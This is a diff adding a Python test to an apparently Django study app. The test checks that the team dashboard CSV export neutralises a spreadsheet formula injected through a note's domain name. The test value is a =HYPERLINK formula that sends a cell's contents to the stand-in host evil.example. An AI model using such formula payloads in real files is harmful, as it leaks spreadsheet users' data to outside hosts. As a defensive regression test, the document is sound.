@@ -105,3 +105,23 @@ def test_the_csv_takes_as_many_queries_for_a_big_team_as_for_a_small_one(client,
         return len(queries)
 
     assert count(*build_team(3, prefix="s")) == count(*build_team(12, prefix="b"))
+
+
+def test_a_formula_in_a_domain_name_stays_text_in_the_csv_header(client, db):
+    """A note's domain is free text: the dashboard's column for it is named
+    after it, and its CSV header must not be a formula either."""
+    from studyapp.notes.services import NoteReport, note_import
+    from tests import samples
+
+    hostile = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    text = samples.CANONICAL.replace('domain: "Design for New Solutions"', "domain: '" + hostile + "'")
+    assert note_import(raw=text.encode(), report=NoteReport(path="x.md")).status == "created"
+    lead, members = user("lead"), [user(f"m{i}") for i in range(3)]
+    team = team_with(lead, members, share=tuple(m.username for m in members))
+    assign(team)
+    client.force_login(lead)
+    rows = list(
+        csv.reader(io.StringIO(client.get(reverse("team_dashboard_csv", args=[team.pk])).content.decode("utf-8-sig")))
+    )
+    assert "'" + hostile in rows[0]
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
